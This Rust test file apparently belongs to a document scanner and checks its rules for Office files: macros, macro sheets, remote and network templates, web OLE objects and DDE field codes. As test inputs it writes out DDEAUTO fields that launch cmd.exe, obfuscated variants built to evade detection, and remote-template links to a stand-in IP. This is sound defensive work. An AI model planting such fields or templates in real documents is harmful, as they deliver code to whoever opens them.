use crate::forge::{Case, Example, Specimen, case, fired, ooxml, zip};
use sheepdip::model::report::Verdict;

pub const SPECIMENS: &[Specimen] = &[
    ("docx", || {
        ooxml::package("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml", &[])
    }),
    ("docm", || ooxml::package("application/vnd.ms-word.document.macroEnabled.main+xml", &[])),
    ("dotx", || {
        ooxml::package("application/vnd.openxmlformats-officedocument.wordprocessingml.template.main+xml", &[])
    }),
    ("dotm", || ooxml::package("application/vnd.ms-word.template.macroEnabledTemplate.main+xml", &[])),
    ("xlsx", || ooxml::package("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml", &[])),
    ("xlsm", || ooxml::package("application/vnd.ms-excel.sheet.macroEnabled.main+xml", &[])),
    ("xltx", || ooxml::package("application/vnd.openxmlformats-officedocument.spreadsheetml.template.main+xml", &[])),
    ("xltm", || ooxml::package("application/vnd.ms-excel.template.macroEnabled.main+xml", &[])),
    ("xlam", || ooxml::package("application/vnd.ms-excel.addin.macroEnabled.main+xml", &[])),
    ("xlsb", || ooxml::package("application/vnd.ms-excel.sheet.binary.macroEnabled.main", &[])),
    ("pptx", || {
        ooxml::package("application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml", &[])
    }),
    ("pptm", || ooxml::package("application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml", &[])),
    ("potx", || ooxml::package("application/vnd.openxmlformats-officedocument.presentationml.template.main+xml", &[])),
    ("potm", || ooxml::package("application/vnd.ms-powerpoint.template.macroEnabled.main+xml", &[])),
    ("ppsx", || ooxml::package("application/vnd.openxmlformats-officedocument.presentationml.slideshow.main+xml", &[])),
    ("ppsm", || ooxml::package("application/vnd.ms-powerpoint.slideshow.macroEnabled.main+xml", &[])),
    ("ppam", || ooxml::package("application/vnd.ms-powerpoint.addin.macroEnabled.main+xml", &[])),
    ("vsdx", || ooxml::package("application/vnd.ms-visio.drawing.main+xml", &[])),
    ("vsdm", || ooxml::package("application/vnd.ms-visio.drawing.macroEnabled.main+xml", &[])),
    ("ooxml", || zip::names(&["[Content_Types].xml", "word/document.xml"])),
];

fn with_rel(kind: &str, target: &str) -> Case {
    let rels = ooxml::relationships(kind, target, "External");
    case("a.docx", ooxml::docx(&[zip::deflated("word/_rels/settings.xml.rels", rels)]))
}

fn with_field(code: &str) -> Case {
    let text = format!("<w:p><w:r><w:instrText>{code}</w:instrText></w:r></w:p>");
    case("a.docx", ooxml::docx(&[zip::deflated("word/header1.xml", text)]))
}

pub const EXAMPLES: &[Example] = &[
    Example {
        rule: "ooxml.macros",
        fires: || case("a.docm", ooxml::package(ooxml::DOCM, &[zip::stored("word/vbaProject.bin", "x")])),
        silent: || case("a.docx", ooxml::docx(&[])),
    },
    Example {
        rule: "ooxml.macro-sheet",
        fires: || case("a.xlsx", ooxml::package(ooxml::XLSX, &[zip::stored("xl/macrosheets/sheet1.xml", "<x/>")])),
        silent: || case("a.xlsx", ooxml::package(ooxml::XLSX, &[zip::stored("xl/worksheets/sheet1.xml", "<x/>")])),
    },
    Example {
        rule: "ooxml.remote-template",
        fires: || with_rel("attachedTemplate", "http://203.0.113.5/a.dotm"),
        silent: || with_rel("attachedTemplate", r"file:///C:\Users\me\Templates\Letter.dotx"),
    },
    Example {
        rule: "ooxml.network-link",
        fires: || with_rel("attachedTemplate", r"file:///\\fileserver\templates\letter.dotx"),
        silent: || with_rel("hyperlink", "https://example.com/"),
    },
    Example {
        rule: "ooxml.dde",
        fires: || with_field(r" DDEAUTO c:\\windows\\system32\\cmd.exe &quot;/k calc&quot; "),
        silent: || with_field(" PAGE   \\* MERGEFORMAT "),
    },
];

#[test]
fn a_plain_document_is_clean() {
    let report = case("a.docx", ooxml::docx(&[])).examine();
    assert_eq!(report.judgement.verdict, Verdict::Clean, "{:?} {:?}", fired(&report), report.gaps);
    assert_eq!(report.artifacts[0].content_type.id, "docx");
}

#[test]
fn links_and_pictures_on_the_web_are_ordinary() {
    for kind in ["hyperlink", "image"] {
        let report = with_rel(kind, "https://example.com/logo.png").examine();
        assert_eq!(report.judgement.verdict, Verdict::Clean, "{kind}: {:?}", fired(&report));
    }
}

#[test]
fn an_object_from_the_web_and_a_field_in_pieces_are_dangerous() {
    let web = with_rel("oleObject", "mhtml:http://203.0.113.5/a!x").examine();
    let pieces = with_field("DDE</w:instrText></w:r><w:r><w:instrText>AUTO c:\\\\x.exe").examine();
    for report in [web, pieces] {
        assert_eq!(report.judgement.verdict, Verdict::Dangerous, "{:?}", fired(&report));
    }
}

#[test]
fn a_remote_template_is_found_however_its_xml_is_written() {
    for rels in [
        "<Relationships><Relationship\nId='a>'\tType=\"x/attachedTemplate\" Target=\"http://a.example/b\" TargetMode=\"External\"/>",
        "<r:Relationship Type=\"x/attachedTemplate\" Target=\"&#104;ttp:&#x2f;/a.example/b\" TargetMode=\"External\"/>",
    ] {
        let document = case("a.docx", ooxml::docx(&[zip::deflated("word/_rels/settings.xml.rels", rels)]));
        assert!(fired(&document.examine()).contains(&"ooxml.remote-template"), "{rels}");
    }
}

#[test]
fn a_field_code_is_found_however_its_xml_is_written() {
    for text in [
        "<w:instrText>DDE</w:instrText><x/><v:instrText a='b'>AUTO c:\\cmd</v:instrText>",
        "<w:instrText><![CDATA[DDEAUTO c:\\cmd]]></w:instrText>",
        "<w:instrText>DD<!-- x -->EAUTO c:\\cmd</w:instrText>",
        "<w:instrText>&#68;DEAUTO c:\\cmd</w:instrText>",
        "<w:fldSimple w:instr='DDEAUTO c:\\cmd'/>",
    ] {
        let document = case("a.docx", ooxml::docx(&[zip::deflated("word/header1.xml", text)]));
        assert!(fired(&document.examine()).contains(&"ooxml.dde"), "{text}");
    }
}

#[test]
fn broken_xml_takes_no_long_time() {
    let start = std::time::Instant::now();
    for word in ["instrText", "<Relationship ", ":Relationship ", "<w:fldSimple w:instr=", "<w:instrText>"] {
        let text = word.repeat(4_000_000 / word.len());
        let parts = [zip::deflated("word/header1.xml", &text), zip::deflated("word/_rels/a.xml.rels", &text)];
        fired(&case("a.docx", ooxml::docx(&parts)).examine());
    }
    assert!(start.elapsed().as_secs() < 60, "{:?}", start.elapsed());
}
